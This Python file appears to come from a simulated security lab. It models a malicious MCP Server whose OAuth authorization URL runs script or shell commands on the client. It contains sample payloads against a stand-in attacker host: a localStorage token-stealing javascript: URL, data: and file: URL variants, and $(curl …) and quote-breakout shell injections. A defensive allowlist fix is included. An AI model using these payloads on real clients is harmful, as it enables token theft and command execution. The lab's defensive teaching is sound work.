"""The lab ``authorization-url-validation``: a malicious Server's authorization URL runs code in the
client or on the user's machine.

A client learns the authorization endpoint from metadata a Server pointed it to, appends its query and
*opens* the result. How it opens it is the attack surface (Security Best Practices, "OAuth
Authorization URL Validation"):

* handed to the app's own web view or ``window.open``, a ``javascript:`` (or ``vbscript:``) URL runs as
  script *in the client app*, next to the tokens it stores for every other Server; so does a
  ``data:text/html`` page in a web view; a ``file:`` URL makes the operating system open a local file
  — run it, if it is a program the attacker managed to place;
* handed to a shell (``sh -c 'xdg-open "…"'``, ``cmd /c start``), the URL is *parsed by the shell*:
  ``$(…)``, backquotes or a ``"`` that ends the quoting run commands.

The fix is two things (rules ``security.bp.auth-url-schemes``, ``security.bp.auth-url-allowlist``,
``security.bp.auth-url-sanitize``, ``security.bp.auth-url-no-shell``): an **allowlist** of schemes,
judged the way a browser parses the URL (leading spaces and control characters stripped, tabs and
newlines removed, the scheme case-insensitive) — https, and http only to loopback — refusing
characters a shell would interpret; and opening the URL **without a shell**, as one argument to the
platform's opener.

The machine is modelled in the lab (:class:`Machine`): a small shell that finds the commands a
command line runs (separators, substitutions, quotes), a web view that runs script URLs with the
app's storage, and a file opener that launches programs. What the attacker obtained is read from it.
"""

from __future__ import annotations

import re
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any, Final, Literal
from urllib.parse import urlencode, urlsplit

from mcp_sim.scenarios.security.oauth_world import LoggingSite, files_seen, private_files, redeem
from mcp_sim.security.identity import User, pick_name
from mcp_sim.security.lab import Lab, LabContext, LabFacts, Outcome
from mcp_sim.security.oauth import OAuthAuthorizationServer, ScriptedUser, protected_resource_metadata, s256
from mcp_sim.security.oauth_web import DocumentSite, SimulatedWeb
from mcp_sim.security.tokens import AuthorizationServer

__all__ = ["LABS", "Machine", "UrlOpening", "allowlist", "browser_parse", "no_check", "shell_commands"]

_C0_OR_SPACE = "".join(chr(c) for c in range(0x21))


def browser_parse(url: str) -> tuple[str, str]:
    """``(scheme, rest)`` as a browser reads ``url`` (WHATWG URL): leading and trailing C0 controls and
    spaces stripped, tabs and newlines removed anywhere, the scheme lower-cased."""
    text = url.strip(_C0_OR_SPACE).replace("\t", "").replace("\n", "").replace("\r", "")
    m = re.match(r"([A-Za-z][A-Za-z0-9+.-]*):(.*)", text, re.S)
    return (m.group(1).lower(), m.group(2)) if m else ("", text)


def shell_commands(line: str) -> list[str]:
    """The commands ``sh -c line`` runs, in the order they run: ``$(…)`` and backquote substitutions
    (outside single quotes) first, then each command separated by ``;``, ``&`` or ``|`` outside quotes.
    Quotes are removed from the words, as the shell does."""
    ran: list[str] = []
    current, quote, i = "", "", 0
    while i < len(line):
        c = line[i]
        if quote != "'" and (line.startswith("$(", i) or c == "`"):
            close, depth, j = ("`", 0, i + 1) if c == "`" else (")", 1, i + 2)
            start = j
            while j < len(line):
                if close == ")" and line[j] == "(":
                    depth += 1
                elif line[j] == close:
                    depth -= 1
                    if depth <= 0:
                        break
                j += 1
            ran += shell_commands(line[start:j])
            i = j + 1
            continue
        if c in "'\"" and (not quote or quote == c):
            quote = "" if quote else c
        elif not quote and c in ";&|":
            if current.strip():
                ran.append(current.strip())
            current = ""
        else:
            current += c
        i += 1
    if current.strip():
        ran.append(current.strip())
    return ran


@dataclass
class Machine:
    """The user's computer as the attack sees it: the client app's web view (with the app's stored
    tokens), the operating system's URL and file openers, and a shell."""

    web: SimulatedWeb
    storage: dict[str, str]
    """What the client app stores (its tokens for other Servers), readable by script in its web view."""
    programs: dict[str, str] = field(default_factory=dict)
    """Local files that are programs (path → what running it does)."""
    ran: list[str] = field(default_factory=list)
    """Every command or program run besides the URL opener itself."""
    opened: list[str] = field(default_factory=list)
    """The http(s) URLs the browser was handed, exactly."""
    browser: Callable[[str], Any] | None = None

    async def open_url(self, url: str, launch: Literal["shell", "argv"]) -> None:
        """Open ``url``: through a shell command line, or as one argument to the opener."""
        if launch == "argv":
            await self._dispatch(url)
            return
        for command in shell_commands(f'xdg-open "{url}"'):
            if command.startswith("xdg-open "):
                await self._dispatch(command[len("xdg-open "):])
            else:
                self.ran.append(command)

    async def _dispatch(self, url: str) -> None:
        scheme, rest = browser_parse(url)
        if scheme in ("javascript", "vbscript") or (scheme == "data" and "<script" in rest.lower()):
            await self._script(rest)
        elif scheme == "file":
            path = urlsplit(f"file:{rest}").path
            if path in self.programs:
                self.ran.append(f"{path}: {self.programs[path]}")
        elif scheme in ("http", "https"):
            self.opened.append(url)
            if self.browser is not None:
                await self.browser(url)

    async def _script(self, source: str) -> None:
        """Script in the app's web view: it may read the app's storage and send it where it says."""
        target = re.search(r"https://[A-Za-z0-9.-]+/[A-Za-z0-9/_-]*", source)
        if target and "localStorage" in source:
            await self.web.fetch("client app (web view)", "GET",
                                 f"{target.group(0)}?{urlencode(self.storage)}")


Check = Callable[[str], str | None]


def no_check(url: str) -> str | None:
    """The mistake: the URL from the Server's metadata is opened as it came."""
    return None


def allowlist(url: str) -> str | None:
    """The fix's first half: https, or http to a loopback address, judged as a browser parses the URL;
    and no character a shell would interpret, no space or control character anywhere."""
    if url != url.strip(_C0_OR_SPACE) or re.search(r"[\x00-\x20\x7f\"'`$\\<>{}|^]", url):
        return "the URL holds spaces, control characters or characters a shell interprets"
    scheme, _ = browser_parse(url)
    parts = urlsplit(url)
    if scheme == "https" and parts.hostname:
        return None
    if scheme == "http" and parts.hostname in ("localhost", "127.0.0.1", "::1"):
        return None
    return f"the scheme {scheme or '(none)'}: is not allowed for an authorization URL (https, or http to loopback)"


@dataclass(frozen=True)
class UrlOpening:
    """How the client treats an authorization URL: ``check`` (why it refuses, or ``None``) and how it
    ``launch``es the URL it accepts — a shell command line, or one argument to the opener."""

    check: Check
    launch: Literal["shell", "argv"]


URLS = LabFacts(
    layer="authorization",
    summary="A malicious Server's authorization URL runs script in the client or commands on the user's machine.",
    title="OAuth authorization URL validation",
    attacker="the operator of a malicious MCP Server the user adds",
    controls=("the authorization server metadata its Protected Resource Metadata points to, hence the "
              "authorization_endpoint the client opens, and a file it managed to place on the user's disk "
              "earlier"),
    goal="code execution: script in the client app beside its stored tokens, or commands on the user's machine",
    mistake=("the client opened the authorization URL as it came: a script URL ran in the app's web view with "
             "its stored tokens, a file URL launched a program, and the shell that opened it ran what the URL's "
             "substitutions and quotes said"),
    boundary="the client's validation of authorization URLs and how it opens them",
    fix=("the client accepts only https (and http to loopback) judged as a browser parses the URL, refuses "
         "spaces, control characters and characters a shell interprets, and opens the URL as one argument to "
         "the platform's opener, never through a shell"),
    rule=("an authorization URL comes from a server: allow only https (http only to loopback), judged as the "
          "browser parses it, and never open it through a shell."),
    rules=("security.bp.auth-url-schemes", "security.bp.auth-url-allowlist", "security.bp.auth-url-sanitize",
           "security.bp.auth-url-no-shell"),
    not_covered=("an https URL that leads to a phishing page (validation says nothing about where an https URL "
                 "goes: the user's sign-in is protected by the authorization server's own domain), bugs in the "
                 "browser or opener themselves, a web-based client's Content Security Policy (which the best "
                 "practices recommend as well; not modelled here), and the stdio privilege escalation a stolen proxy token allows "
                 "(security.bp.stdio-proxy-restrictions)"),
    roles=("The honest authorization server is OAuthAuthorizationServer; the malicious Server's metadata are "
           "documents on the simulated web; the client's discovery is written in the lab; the machine (shell, "
           "web view, file opener) is modelled in the lab; the files are a real Server called by a real Client."),
)


async def url_story(ctx: LabContext, defence: UrlOpening) -> Outcome:
    sim, rng = ctx.sim, ctx.rng
    web = SimulatedWeb(sim)
    victim = User(pick_name(rng, "user"), pick_name(rng, "tenant"))
    evil = f"{pick_name(rng, 'server')}.example"
    issuer, resource, port = "https://login.example", "https://files.example/mcp", rng.randint(30000, 39999)
    table = AuthorizationServer(issuer, lambda: sim.token(16), sim.now_ms)
    login = OAuthAuthorizationServer(issuer, table, ScriptedUser(victim), resources=(resource,),
                                     scopes_supported=("files:read", "files:write"))
    app = login.preregister("Desk", [f"http://127.0.0.1:{port}/callback"])
    stored = {"access_token": f"at_{sim.token(16)}"}  # what the app keeps for another Server
    steal = f"fetch('https://{evil}/c?t='+localStorage.access_token)//"
    program = f"/home/{victim.subject.split('.')[0]}/Downloads/{pick_name(rng, 'server')}-update.desktop"
    payload = f"curl -s https://{evil}/x"
    endpoint = {"mixed-case": f"JaVaScRiPt:{steal}",
                "leading-whitespace": f" \t javascript:{steal}",
                "data-url": f"data:text/html,<script>{steal}</script>",
                "file-url": f"file://{program}",
                "shell-substitution": f"https://{evil}/authorize/$({payload})",
                "quote-breakout": f'https://{evil}/authorize";{payload};"'}.get(ctx.variant, f"javascript:{steal}")
    local, catcher = LoggingSite(f"Desk (127.0.0.1:{port})"), LoggingSite(f"web/{evil}")
    sites: dict[str, Any] = {
        issuer: login, f"http://127.0.0.1:{port}": local, f"https://{evil}": catcher,
        "https://files.example": DocumentSite("server/files", {"/.well-known/oauth-protected-resource/mcp":
                                                               protected_resource_metadata(resource, [issuer])}),
        f"https://tools.{evil}": DocumentSite(f"server/tools.{evil}", {
            "/.well-known/oauth-protected-resource/mcp": protected_resource_metadata(f"https://tools.{evil}/mcp",
                                                                                     [f"https://auth.{evil}"])}),
        f"https://auth.{evil}": DocumentSite(f"authorization server (auth.{evil})", {
            "/.well-known/oauth-authorization-server": {
                "issuer": f"https://auth.{evil}", "authorization_endpoint": endpoint,
                "token_endpoint": f"https://auth.{evil}/token", "code_challenge_methods_supported": ["S256"]}}),
    }
    for where, site in sites.items():
        web.add(where, site)

    async def follow(url: str) -> None:  # the system browser: the honest server redirects to the app
        answer = await web.fetch("browser (user)", "GET", url)
        location = answer.headers.get("Location") or ""
        if answer.status == 302 and location.startswith(f"http://127.0.0.1:{port}/"):
            await web.fetch("browser (user)", "GET", location)

    machine = Machine(web, stored, {program: "the attacker's program ran"}, browser=follow)
    refused: list[str] = []

    async def sign_in(resource_url: str, client_id: str, verifier: str) -> None:
        """The client discovers the authorization server and opens its authorization URL."""
        parts = urlsplit(resource_url)
        prm = (await web.fetch("client (Desk)", "GET", f"{parts.scheme}://{parts.netloc}/.well-known/"
                               f"oauth-protected-resource{parts.path}")).json()
        meta = (await web.fetch("client (Desk)", "GET", f"{prm['authorization_servers'][0]}"
                                "/.well-known/oauth-authorization-server")).json()
        url = f"{meta['authorization_endpoint']}?" + urlencode({
            "response_type": "code", "client_id": client_id, "redirect_uri": f"http://127.0.0.1:{port}/callback",
            "scope": "files:read files:write", "code_challenge": s256(verifier), "code_challenge_method": "S256",
            "resource": resource_url, "state": sim.token(8)})
        reason = defence.check(url)
        if reason is not None:
            refused.append(reason)
            return
        await machine.open_url(url, defence.launch)

    # The legitimate work: the user signs in to the files Server; its URL holds & and + and must arrive intact.
    verifier = sim.token(32)
    await sign_in(resource, app.client_id, verifier)
    codes = local.codes("/callback")
    token = await redeem(web, "client (Desk)", f"{issuer}/token", {
        "grant_type": "authorization_code", "code": codes[-1], "redirect_uri": f"http://127.0.0.1:{port}/callback",
        "client_id": app.client_id, "code_verifier": verifier, "resource": resource}) if codes else None
    server, files = private_files(ctx, victim)
    mine = await files_seen(ctx, "files-desk", server, table, token, resource, "Desk")

    # The attack: the user adds the malicious Server; the client opens the URL its metadata names.
    ran_before = len(machine.ran)
    with ctx.attack():
        await sign_in(f"https://tools.{evil}/mcp", "client_desk", sim.token(32))
    leaked = [path for path in catcher.received if path.startswith("/c?")]
    ran = machine.ran[ran_before:]
    return Outcome(
        succeeded=bool(leaked or ran),
        evidence={"authorization_endpoint": endpoint, "tokens_leaked": len(leaked), "ran": ran,
                  "refused": refused, "variant": ctx.variant},
        legitimate=set(mine) == set(files) and len(machine.opened) >= 1,
        obtained=("received the app's stored token from its web view" if leaked else f"ran {'; '.join(ran)}"),
        stopped_by="the client refused the authorization URL: " + "; ".join(refused) if refused else
                   "the client opened the URL without a shell, and nothing ran",
    )


LABS: Final = (
    Lab("authorization-url-validation", URLS, url_story,
        {"vulnerable": UrlOpening(no_check, "shell"), "fixed": UrlOpening(allowlist, "argv")},
        {"mixed-case": "the scheme is written JaVaScRiPt: (schemes are case-insensitive)",
         "leading-whitespace": "spaces and a tab come before javascript: (a browser strips them)",
         "data-url": "a data:text/html page with a script, rendered in the app's web view",
         "file-url": "a file: URL naming a program the attacker placed in the user's downloads",
         "shell-substitution": "an https URL holding $(…), which the shell that opens it runs",
         "quote-breakout": "an https URL holding a double quote, which ends the shell's quoting"}),
)
"""The labs of this module."""
